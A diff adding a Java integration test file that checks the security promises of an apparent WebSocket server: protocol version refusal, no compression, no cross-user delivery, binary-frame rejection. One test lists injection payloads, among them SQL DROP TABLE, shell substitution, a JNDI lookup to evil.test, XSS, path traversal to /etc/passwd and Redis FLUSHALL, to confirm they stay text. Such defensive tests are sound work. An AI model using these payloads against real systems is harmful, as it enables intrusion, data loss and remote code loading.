@@ -1,0 +1,99 @@
+package dev.bellhop.it;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
+
+import java.io.BufferedReader;
+import java.io.IOException;
+import java.io.InputStreamReader;
+import java.net.Socket;
+import java.net.URI;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+
+/** What security.md promises of the WebSocket and no other test shows. */
+class SecurityServerIT extends WithServers {
+
+    /** The head of the answer to a handshake with these headers besides the usual ones. */
+    private List<String> handshake(FormLogin login, String... headers) throws IOException {
+        URI uri = first.webSocket();
+        try (Socket socket = new Socket(uri.getHost(), uri.getPort())) {
+            socket.setSoTimeout(20_000);
+            socket.getOutputStream().write(("GET " + uri.getPath() + " HTTP/1.1\r\nHost: " + uri.getAuthority() + "\r\nOrigin: " + first.origin() + "\r\nCookie: " + login.cookieHeader(uri).orElseThrow()
+                    + "\r\nConnection: Upgrade\r\n" + String.join("\r\n", headers) + "\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
+            BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.ISO_8859_1));
+            return in.lines().takeWhile(line -> !line.isEmpty()).toList();
+        }
+    }
+
+    private static int status(List<String> head) {
+        return Integer.parseInt(head.get(0).split(" ")[1]);
+    }
+
+    @Test
+    void onlyTheCurrentWebSocketProtocolIsSpoken() throws IOException {
+        FormLogin login = FormLogin.as("guest110", first);
+        String key = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==";
+        assertThat(status(handshake(login, "Upgrade: websocket", key, "Sec-WebSocket-Version: 13"))).isEqualTo(101);
+        for (String old : new String[] {"0", "7", "8", "99"}) {
+            assertThat(status(handshake(login, "Upgrade: websocket", key, "Sec-WebSocket-Version: " + old))).as("version " + old).isNotEqualTo(101);
+        }
+        assertThat(status(handshake(login, "Upgrade: WebSocket", "Sec-WebSocket-Key1: 4 @1  46546xW%0l 1 5", "Sec-WebSocket-Key2: 12998 5 Y3 1  .P00"))).as("hixie-76").isNotEqualTo(101);
+    }
+
+    @Test
+    void framesAreNotCompressed() throws IOException {
+        List<String> head = handshake(FormLogin.as("guest111", first), "Upgrade: websocket", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13",
+                "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits");
+        assertThat(status(head)).isEqualTo(101);
+        assertThat(head).noneMatch(line -> line.toLowerCase(java.util.Locale.ROOT).startsWith("sec-websocket-extensions"));
+    }
+
+    /** No frame of a page's reaches another user, whatever it names: the application decides what becomes of it. */
+    @Test
+    void whatAPageSendsReachesNoOtherUser() {
+        try (Page alice = Page.loggedIn(FormLogin.as("guest112", first)); Page bob = Page.loggedIn(FormLogin.as("guest113", first))) {
+            for (String to : List.of("\"guest113\"", "\"*\"")) {
+                alice.send("{\"msg_type\":\"notice\",\"to_user_id\":" + to + ",\"data\":\"from guest112\"}");
+            }
+            alice.send("{\"msg_type\":\"bellhop.node\",\"to_role\":\"bellhop-admin\",\"to_group\":\"g\",\"data\":{}}");
+            alice.send("{\"msg_type\":\"ping\"}");
+            alice.awaitType("pong");
+            redis.publish("{\"msg_type\":\"end\",\"to_user_id\":\"guest113\"}");
+            bob.awaitType("end");
+            assertThat(bob.frames()).hasSize(2);
+        }
+    }
+
+    @Test
+    void binaryFramesAreRefusedAndGoNowhere() {
+        try (Page page = Page.loggedIn(FormLogin.as("guest114", first))) {
+            long before = redis.commands().xlen(RedisServer.CONSUMER_STREAM);
+            page.sendBinary("{\"msg_type\":\"hidden\",\"data\":1}".getBytes(StandardCharsets.UTF_8));
+            assertThat(page.awaitType("error").getJsonObject("data").getString("code")).isEqualTo("bad_message");
+            page.send("{\"msg_type\":\"shown\"}");
+            await().until(() -> redis.commands().xlen(RedisServer.CONSUMER_STREAM) > before);
+            assertThat(redis.commands().xrevrange(RedisServer.CONSUMER_STREAM, io.lettuce.core.Range.unbounded(), io.lettuce.core.Limit.from(2)))
+                    .noneMatch(entry -> "hidden".equals(entry.getBody().get("msg_type")));
+        }
+    }
+
+    /** Each of these means something to a database, a shell, a template, a log or a browser. Here it is text. */
+    @Test
+    void whatWouldBeCodeElsewhereIsTextOnTheWholeWay() {
+        List<String> payloads = List.of("'; DROP TABLE users; --", "$(reboot)", "`id`", "${jndi:ldap://evil.test/a}", "{{7*7}}", "<img src=x onerror=alert(1)>", "../../etc/passwd",
+                "redis.call('FLUSHALL')", "*1\\r\\n$8\\r\\nFLUSHALL\\r\\n", "\\u0000\\u001b[2J", "%s%n%x", "__proto__");
+        try (Page page = Page.loggedIn(FormLogin.as("guest115", first))) {
+            int sent = 0;
+            for (String payload : payloads) {
+                redis.add("{\"msg_type\":\"text\",\"to_user_id\":\"guest115\",\"data\":\"" + payload + "\"}");
+                page.send("{\"msg_type\":\"" + payload + "\",\"data\":\"" + payload + "\"}");
+                assertThat(page.awaitFrames("text", ++sent).get(sent - 1)).endsWith(",\"msg_type\":\"text\",\"data\":\"" + payload + "\"}");
+            }
+            await().until(() -> redis.commands().xrevrange(RedisServer.CONSUMER_STREAM, io.lettuce.core.Range.unbounded(), io.lettuce.core.Limit.from(50)).stream()
+                    .filter(entry -> "guest115".equals(entry.getBody().get("from_user_id"))).map(entry -> entry.getBody().get("data"))
+                    .filter(data -> payloads.contains(data.substring(1, data.length() - 1))).distinct().count() == payloads.size());
+        }
+    }
+}
